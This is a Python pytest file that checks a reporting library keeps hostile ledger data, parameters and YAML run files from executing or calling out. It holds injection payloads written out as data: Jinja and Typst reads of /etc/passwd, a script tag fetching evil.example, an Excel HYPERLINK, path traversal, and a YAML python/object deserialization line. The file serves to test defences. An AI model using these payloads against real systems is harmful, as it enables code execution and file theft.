"""Nothing in data, parameters or run files becomes code, and a run talks to nobody."""

import json
import subprocess

import psutil
import pytest
from conftest import KAM, read_manifest

from kamlib.errors import DataError
from kamlib.reports.batch import check_run
from kamlib.runs import load_run

HOSTILE = {
    "papermill": "C1\"\nimport os; os.mknod('CANARY')\n\"",
    "format": "{source.__class__.__mro__}",
    "jinja": "{{ 7 * 191 }}{% include '/etc/passwd' %}",
    "typst": '#read("/etc/passwd") #(7 * 191) $x$ @label <label>',
    "excel": '=HYPERLINK("http://evil.example","x")',
    "markup": "</script><script>fetch('http://evil.example')</script>",
    "path": "../../../../tmp/CANARY",
}


def write_ledger(folder):
    """A client for each trick: it is the id of one and the name of the same."""
    rows = ["invoice_id,client_id,issue_date,due_date,amount,currency"]
    names = ["client_id,name"]
    for number, text in enumerate(HOSTILE.values()):
        quoted = '"' + text.replace('"', '""') + '"'
        names.append(f"{quoted},{quoted}")
        rows += [f"{number}-{month},{quoted},2026-{month:02}-03,2026-{month:02}-28,1000,EUR" for month in range(1, 10)]
    folder.mkdir()
    (folder / "invoices.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    (folder / "clients.csv").write_text("\n".join(names) + "\n", encoding="utf-8")


def write_run(tmp_path, **changes):
    content = {
        "run": "hostile",
        "title": "{{ 7 * 191 }} #(7 * 191) & Co",
        "as_of": "2026-09-30",
        "currency": "EUR",
        "ledger": {"path": str(tmp_path / "ledger")},
        "clients": {"all": True},
        "notebooks": ["client/credit_review"],
        "out": str(tmp_path / "out"),
    }
    file = tmp_path / "hostile.yaml"
    file.write_text(json.dumps(content | changes), encoding="utf-8")
    return file


@pytest.mark.slow
def test_no_code_comes_from_data_and_no_port_is_opened(tmp_path):
    write_ledger(tmp_path / "ledger")
    file = write_run(tmp_path)
    started = subprocess.Popen(
        [*KAM, "run", str(file)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, cwd=tmp_path
    )
    watched, sockets = psutil.Process(started.pid), set()
    while started.poll() is None:
        for process in [watched, *watched.children(recursive=True)]:
            try:
                sockets |= {str(found) for found in process.net_connections(kind="inet")}
            except psutil.Error:
                continue
        psutil.wait_procs([watched], timeout=0.2)
    said, _ = started.communicate()
    assert started.returncode == 0, said
    assert sockets == set()
    assert not list(tmp_path.rglob("*CANARY*"))
    out = tmp_path / "out"
    entries = read_manifest(out)["reports"]
    assert {entry["client_id"] for entry in entries} == set(HOSTILE.values())
    for entry in entries:
        page = (out / entry["html"]).resolve()
        assert page.is_relative_to(out.resolve())
        text = page.read_text(encoding="utf-8")
        assert "<script>fetch" not in text
        assert "1337" not in text
        assert "root:" not in text
    assert "<script>fetch" not in (out / "index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "parameters", [{"x = 1\nimport os": 1}, {"__builtins__": {}}, {"source": "elsewhere"}, {"client_id": "other"}]
)
def test_parameters_are_names_of_the_parameters_cell(tmp_path, parameters):
    write_ledger(tmp_path / "ledger")
    file = write_run(tmp_path, parameters={"client/credit_review": parameters})
    with pytest.raises(DataError, match="parameters") as refusal:
        check_run(load_run(str(file)))
    assert len(refusal.value.faults) == 1
    assert not (tmp_path / "out").exists()


def test_a_run_file_holds_no_objects(tmp_path):
    file = tmp_path / "evil.yaml"
    file.write_text(f"run: !!python/object/apply:os.mknod ['{tmp_path}/CANARY']\n", encoding="utf-8")
    with pytest.raises(DataError, match="could not determine a constructor"):
        load_run(str(file))
    assert not (tmp_path / "CANARY").exists()
